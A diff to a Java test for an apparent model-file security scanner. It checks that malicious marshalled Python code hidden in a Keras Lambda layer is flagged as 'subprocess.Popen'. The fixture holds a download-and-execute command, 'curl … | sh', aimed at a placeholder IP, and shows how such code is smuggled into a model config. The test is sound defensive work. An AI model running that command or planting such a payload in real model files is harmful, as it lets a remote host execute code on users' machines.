@@ -93,10 +93,25 @@ class ModelFormatsTest {
     }
   }
 
+  @Test
+  void namesInCodeAreToldApartByTheirLengths() {
+    // The length of the command is a letter that joins it to the name before it.
+    byte[] harmful = marshalled("subprocess", "curl -s http://192.0.2.63/k | sh; : pad", "Popen");
+    String layer =
+        "{\"class_name\": \"Lambda\", \"config\": {\"function\": {\"class_name\": \"__lambda__\","
+            + " \"config\": {\"code\": \"%s\\n\"}}}}";
+    assertThat(
+            details(
+                "m.keras!/config.json",
+                layer.formatted(Base64.getEncoder().encodeToString(harmful))))
+        .contains("dangerous:subprocess.Popen");
+  }
+
   private static byte[] marshalled(String... names) {
     Pickles code = new Pickles().bytes('c' | 0x80).raw(new byte[40]);
     for (String name : names) {
-      code.bytes(0xDA, name.length()).raw(name.getBytes(StandardCharsets.US_ASCII));
+      code.bytes(name.length() > 32 ? 0x7A : 0xDA, name.length())
+          .raw(name.getBytes(StandardCharsets.US_ASCII));
     }
     return code.bytes(0xFA).done();
   }
